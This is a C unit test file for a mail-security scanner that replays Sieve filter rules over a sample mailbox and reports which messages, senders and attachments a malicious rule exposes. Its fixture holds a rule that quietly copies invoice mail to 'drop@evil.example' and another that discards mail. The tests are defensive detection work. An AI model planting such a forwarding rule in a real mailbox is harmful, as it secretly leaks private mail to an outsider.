/* test_replay.c - rules run over the mail of a case: the exposure list. */
#include "scan_box.h"

#include "detect/replay.h"

#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

static const char script[] =
    "require [\"fileinto\", \"copy\", \"body\", \"regex\"];\r\n"
    "# rule:[leak]\r\n"
    "if header :contains \"subject\" \"invoice\" { redirect :copy \"drop@evil.example\"; }\r\n"
    "# rule:[doubt]\r\n"
    "if allof (header :contains \"subject\" \"invoice\", header :regex \"from\" \"a.*\")\r\n"
    "{ discard; }\r\n";

static void fill(struct scan_box *box)
{
    scan_box_letter(box, box->inbox, "anna@one.example", "Invoice 7", "");
    scan_box_letter(box, box->inbox, "anna@one.example", "Lunch", "");
    scan_box_letter(box, box->inbox, "ben@two.example", "Re: INVOICE",
                    "MIME-Version: 1.0\r\nContent-Type: application/pdf; name=bill.pdf\r\n"
                    "Content-Disposition: attachment; filename=bill.pdf\r\n\r\n%PDF-1.4\r\n");
    scan_box_letter(box, box->inbox, "anna@one.example", "invoice 8", "");
    scan_box_letter(box, box->sent, "owner@acme.example", "your invoice", "");
    scan_box_script(box, "main", script);
    scan_box_finish(box);
}

static void run(struct scan_box *box, struct replay *replay, const char *rule)
{
    struct error err = {0};

    if (!replay_run(replay, box->sample.cf, DATA_DIR, scan_box_rule(box, rule), 0, &err))
        fail_msg("%s", err.text);
}

static void a_leak_names_its_messages_people_and_attachments(void **state)
{
    struct scan_box *box = *state;
    struct replay replay;

    fill(box);
    run(box, &replay, "leak");
    assert_true(replay.leaks && !replay.hides);
    assert_non_null(strstr(replay.deed, "drop@evil.example"));
    assert_int_equal(replay.examined, 4); /* what the owner sent did not pass the rule */
    assert_int_equal(replay.yes, 3);
    assert_int_equal(replay.cannot_tell, 0);
    assert_int_equal(replay.count, 3);
    assert_string_equal(replay.messages[0].subject, "Invoice 7");
    assert_int_equal(replay.messages[1].file_count, 1);
    assert_string_equal(replay.messages[1].files[0].name, "bill.pdf");
    assert_int_equal(replay.person_count, 2);
    assert_string_equal(replay.people[0].address, "anna@one.example");
    assert_int_equal(replay.people[0].messages, 2);
    replay_dispose(&replay);
}

static void what_cannot_be_tried_is_named(void **state)
{
    struct scan_box *box = *state;
    struct replay replay;

    fill(box);
    run(box, &replay, "doubt");
    assert_int_equal(replay.yes, 0);
    assert_int_equal(replay.cannot_tell, 3);
    assert_true(replay.destroys);
    assert_int_equal(replay.doubts, 2);
    assert_non_null(strstr(replay.rule.conditions[1].raw, "a.*"));
    assert_true(replay.note_count >= 2);
    replay_dispose(&replay);
}

static void a_few_are_tried_when_few_are_asked_for(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};
    struct replay replay;

    fill(box);
    if (!replay_run(&replay, box->sample.cf, DATA_DIR, scan_box_rule(box, "leak"), 2, &err))
        fail_msg("%s", err.text);
    assert_int_equal(replay.examined, 2);
    assert_int_equal(replay.yes, 1);
    assert_non_null(strstr(replay.notes[0], "Only the oldest messages were tried"));
    replay_dispose(&replay);
}

static void a_finding_about_a_leak_says_how_much(void **state)
{
    struct scan_box *box = *state;
    struct arena arena = {0};
    struct finding finding;

    fill(box);
    finding = scan_box_finding(box, &arena, "rule-forwards-outside");
    assert_true(scan_box_says(&finding, "it acts on 3 messages (replay rule"));
    finding = scan_box_finding(box, &arena, "rule-money-or-security");
    assert_true(finding.id > 0);
    arena_dispose(&arena);
}

static void a_rule_that_is_not_there_is_an_error(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};
    struct replay replay;

    assert_false(replay_run(&replay, box->sample.cf, DATA_DIR, 99, 0, &err));
    assert_non_null(strstr(err.text, "no rule 99"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(a_leak_names_its_messages_people_and_attachments,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(what_cannot_be_tried_is_named, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test_setup_teardown(a_finding_about_a_leak_says_how_much, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test_setup_teardown(a_few_are_tried_when_few_are_asked_for, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test_setup_teardown(a_rule_that_is_not_there_is_an_error, scan_box_open,
                                        scan_box_close),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
